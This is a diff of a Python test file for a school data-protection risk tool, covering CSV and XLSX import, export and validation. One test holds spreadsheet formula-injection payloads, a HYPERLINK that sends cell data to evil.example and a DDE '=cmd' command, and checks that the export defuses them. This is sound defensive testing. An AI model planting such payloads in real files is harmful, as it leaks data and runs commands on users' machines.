@@ -94,18 +94,22 @@ def test_utf8_with_bom_commas_english_levels_and_iso_dates(district_dir, tmp_pat
 
 @pytest.fixture
 def edited_export(district_dir, tmp_path) -> Path:
-    """The sample's own export with gs-kleeblatt's identity-theft likelihood 2 -> 4 and a new school gs-neu."""
-    rows = export_bytes(riskkit.load_district(district_dir), "csv", TODAY).decode("utf-8").splitlines()
-    header = rows[0].split(",")
-    at = header.index("likelihood")
-    for i, row in enumerate(rows):
-        if row.startswith("gs-kleeblatt,") and ",identity-theft," in row:
-            cells = row.split(",")
-            assert cells[at] == "2"
-            cells[at] = "4"
-            rows[i] = ",".join(cells)
-    new = [r.replace("gs-sonnenhuegel,", "gs-neu,", 1) for r in rows if r.startswith("gs-sonnenhuegel,")]
-    return write(tmp_path, "edited.csv", "\r\n".join(rows + new) + "\r\n")
+    """The sample's own export (English columns) with gs-kleeblatt's identity-theft likelihood 2 -> 4 and a new
+    school gs-neu (a copy of gs-sonnenhuegel's rows)."""
+    import csv
+    import io
+
+    data = export_bytes(riskkit.load_district(district_dir), "csv", TODAY, lang="en").decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(data, newline="")))
+    at = rows[0].index("likelihood")
+    for row in rows:
+        if row[:1] == ["gs-kleeblatt"] and "identity-theft" in row:
+            assert row[at] == "2"
+            row[at] = "4"
+    new = [["gs-neu", *row[1:]] for row in rows if row[:1] == ["gs-sonnenhuegel"]]
+    buffer = io.StringIO(newline="")
+    csv.writer(buffer, lineterminator="\r\n").writerows(rows + new)
+    return write(tmp_path, "edited.csv", buffer.getvalue())
 
 
 def test_dry_run_shows_created_updated_unchanged_and_writes_nothing(district_dir, edited_export):
@@ -169,8 +173,10 @@ gs-neu;Grundschule Neu;Gymnasiun;2026-13-01;Anna Berg;profiling;2;Grund;foo
 gs-neu;Andere Schule;Gymnasiun;2026-13-01;Anna Berg;no-such-risk;2;Grund;
 gs-neu;Grundschule Neu;Gymnasiun;2026-13-01;Anna Berg;profiling;2;Grund;
 """
-    allowed_kinds = ("primary (Grundschule), secondary (Haupt-/Realschule), grammar (Gymnasium), comprehensive "
-                     "(Gesamtschule), special-needs (Förderschule), vocational (berufsbildende Schule), other (sonstige Schule)")
+    # the kinds of school as the sample district (Niedersachsen) names them in district.yaml
+    allowed_kinds = ("primary (Grundschule), secondary (Oberschule, Haupt- oder Realschule), grammar (Gymnasium),"
+                     " comprehensive (Gesamtschule (IGS/KGS)), special-needs (Förderschule / Förderzentrum), vocational"
+                     " (Berufsbildende Schule), other (sonstige Schule)")
     assert refused(district_dir, write(tmp_path, "neu.csv", text)) == [
         "row 4, column school_name: differs from row 2, column school_name ('Grundschule Neu'); a school's details"
         " must be the same on all its rows (got 'Andere Schule')",
@@ -182,12 +188,14 @@ gs-neu;Grundschule Neu;Gymnasiun;2026-13-01;Anna Berg;profiling;2;Grund;
         " (got 'profiling')",
         "row 2, column reason: required; the cell is empty (got None)",
         "row 2, column measures_in_place: measure does not lower this risk; allowed for this risk: usage-rules,"
-        " admin-obligation, two-factor-auth, minimal-master-data, log-evaluation (got 'log-deletion')",
+        " admin-obligation, two-factor-auth, log-evaluation (got 'log-deletion')",  # 1.1.0: not minimal-master-data
         "row 3, column measures_in_place: unknown measure id; allowed for this risk: admin-obligation, log-deletion,"
-        " head-not-admin, separate-installation, minimal-master-data, no-out-of-class-monitoring (got 'foo')",
+        " head-not-admin, separate-installation, no-out-of-class-monitoring (got 'foo')",
         "row 4, column risk_id: unknown risk id; allowed: discrimination-exposure, identity-theft, profiling, data-loss,"
         " vc-recording, vc-content-exposure, vc-operator-data, mail-misdirected, messenger-bullying, files-overshared,"
-        " logs-monitoring, admin-misuse, third-party-addons (got 'no-such-risk')",
+        " logs-monitoring, admin-misuse, third-party-addons, leaver-data-retained, admin-data-on-platform,"
+        " private-devices, vendor-remote-maintenance, initial-password-birthdate, name-search-disclosure,"
+        " multi-school-administration, vc-counselling-exposure, admin-actions-unlogged (got 'no-such-risk')",
     ]
 
 
@@ -252,10 +260,10 @@ def test_html_and_formulas_in_free_text_stay_text(district_dir, tmp_path):
     school = district.school("gs-neu")
     assert school.school.name == SCRIPT.replace(",", "")
     assert [school.risks[r].reason for r in risks] == [SCRIPT, *FORMULAS]
-    exported = export_bytes(district, "csv", TODAY).decode("utf-8")
-    assert "'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"klick\"\")" in exported
-    assert ",'+49 30 1234," in exported and ",'-2+3," in exported and ",'@SUM(A1:A3)," in exported
-    assert "\"'=cmd|' /C calc'!A0\"" in exported or ",'=cmd|' /C calc'!A0," in exported
+    exported = export_bytes(district, "csv", TODAY).decode("utf-8-sig")  # German: ';' and every text quoted
+    assert "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"klick\"\")\"" in exported
+    assert ";\"'+49 30 1234\";" in exported and ";\"'-2+3\";" in exported and ";\"'@SUM(A1:A3)\";" in exported
+    assert ";\"'=cmd|' /C calc'!A0\";" in exported
 
 
 def test_a_formula_cell_in_an_xlsx_is_read_as_its_text_never_evaluated(district_dir, tmp_path):
@@ -388,17 +396,18 @@ def test_a_template_with_a_bad_yes_cell_and_unknown_planned_measure_is_refused(d
     template = tmp_path / "t.xlsx"
     assert run_cli("template", district_dir, "-o", template, "--school", "gs-kleeblatt").exit_code == 0
     book = load_workbook(template)
-    book["Risiken"]["H2"] = "vielleicht"
+    book["Risiken"]["K2"] = "vielleicht"  # the first measure's column
+    last = book["Geplante Maßnahmen"].max_row
     book["Geplante Maßnahmen"].append(["Profilbildung", "Zauberei", "IT", "2027-01-01", None])
     book["Geplante Maßnahmen"].append(["Kein Risiko", "Zauberei", "IT", "2027-01-01", None])
     book.save(template)
     assert refused(district_dir, template) == [
-        "Risiken!row 2, column Nutzerordnung mit Konsequenzen: not yes or no; allowed: ja or empty (got 'vielleicht')",
-        "Geplante Maßnahmen!row 53, column Risiko: unknown risk; allowed: the risks' titles in the drop-down"
+        "Risiken!row 2, column Nutzerordnung mit Konsequenzen: not yes or partly; allowed: ja, 'teilweise: <scope>'"
+        " or empty (got 'vielleicht')",
+        f"Geplante Maßnahmen!row {last + 2}, column Risiko: unknown risk; allowed: the risks' titles in the drop-down"
         " (got 'Kein Risiko')",
-        "Geplante Maßnahmen!row 52, column Maßnahme: unknown measure id; allowed for this risk: admin-obligation,"
-        " log-deletion, head-not-admin, separate-installation, minimal-master-data, no-out-of-class-monitoring"
-        " (got 'Zauberei')",
+        f"Geplante Maßnahmen!row {last + 1}, column Maßnahme: unknown measure id; allowed for this risk: admin-obligation,"
+        " log-deletion, head-not-admin, separate-installation, no-out-of-class-monitoring (got 'Zauberei')",
     ]
 
 
